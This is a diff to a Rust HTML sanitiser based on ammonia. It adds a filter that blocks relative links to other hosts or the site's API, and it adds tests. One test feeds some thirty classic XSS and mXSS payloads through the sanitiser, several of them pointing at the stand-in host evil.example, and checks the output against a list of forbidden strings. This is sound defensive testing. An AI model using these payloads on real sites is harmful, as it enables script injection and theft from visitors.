@@ -2,12 +2,23 @@
 
 use std::sync::LazyLock;
 
-use ammonia::Builder;
+use ammonia::{Builder, UrlRelative};
+
+/// A relative address an article may keep: a path of this site, never another host
+/// (`//host`, `\\host`) nor the API (a link or picture must not make the reader's
+/// browser call it).
+fn keeps_relative(url: &str) -> Option<std::borrow::Cow<'_, str>> {
+    let path = url.trim_start();
+    let other_host = path.starts_with("//") || path.starts_with('\\') || path.starts_with("/\\");
+    let api = path.to_ascii_lowercase().starts_with("/api");
+    (!other_host && !api).then_some(url.into())
+}
 
 static POLICY: LazyLock<Builder<'static>> = LazyLock::new(|| {
     let mut policy = Builder::default();
     policy
         .url_schemes(["http", "https", "mailto", "tel"].into())
+        .url_relative(UrlRelative::Custom(Box::new(keeps_relative)))
         .link_rel(Some("noopener noreferrer"));
     policy
 });
@@ -55,6 +66,87 @@ mod tests {
             clean,
             r#"<a href="https://moit.gov.vn/" rel="noopener noreferrer">Bộ Công Thương</a>"#
         );
+    }
+
+    #[test]
+    fn drops_other_hosts_and_api_addresses_but_keeps_site_paths() {
+        let clean =
+            article_html(r#"<a href="//evil.example/x">a</a><img src="/api/session" alt="b">"#);
+        assert!(
+            !clean.contains("evil") && !clean.contains("/api"),
+            "{clean}"
+        );
+        let clean = article_html(r#"<a href="/bai-viet/3">c</a><img src="/images/x.svg" alt="d">"#);
+        assert!(clean.contains(r#"href="/bai-viet/3""#), "{clean}");
+        assert!(clean.contains(r#"src="/images/x.svg""#), "{clean}");
+    }
+
+    /// Classic XSS and mXSS payloads; none may leave anything that runs or loads.
+    const PAYLOADS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<body onload=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+        "<a href=\" &#14;javascript:alert(1)\">x</a>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+        "<a href=\"java\nscript:alert(1)\">x</a>",
+        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+        "<a href=\"vbscript:msgbox(1)\">x</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+        "<img srcset=\"javascript:alert(1) 1x, //evil.example/p.png 2x\">",
+        "<base href=\"//evil.example/\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
+        "<form action=\"//evil.example\"><input name=p><button>Gửi</button></form>",
+        "<p style=\"background:url(javascript:alert(1))\">x</p>",
+        "<style>@import '//evil.example/x.css';</style>",
+        "<iframe src=\"//evil.example\"></iframe>",
+        "<object data=\"//evil.example/x.swf\"></object><embed src=\"//evil.example/x\">",
+        "<details open ontoggle=alert(1)>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<p id=\"</p><script>alert(1)</script>\">",
+        "<a href=\"//evil.example\">x</a>",
+        "<img src=\"/api/session\" alt=\"\">",
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    ];
+
+    #[test]
+    fn a_corpus_of_attacks_leaves_nothing_that_runs() {
+        let forbidden = [
+            "<script",
+            "onerror",
+            "onload",
+            "ontoggle",
+            "javascript:",
+            "vbscript:",
+            "data:",
+            "<svg",
+            "<math",
+            "<base",
+            "<meta",
+            "<form",
+            "<style",
+            "style=",
+            "<iframe",
+            "<object",
+            "<embed",
+            "srcset",
+            "evil.example",
+            "/api/",
+            "<noscript",
+        ];
+        assert!(PAYLOADS.len() >= 25);
+        for payload in PAYLOADS {
+            let clean = article_html(payload).to_ascii_lowercase();
+            for bad in forbidden {
+                assert!(!clean.contains(bad), "{payload} -> {clean}");
+            }
+        }
     }
 
     #[test]
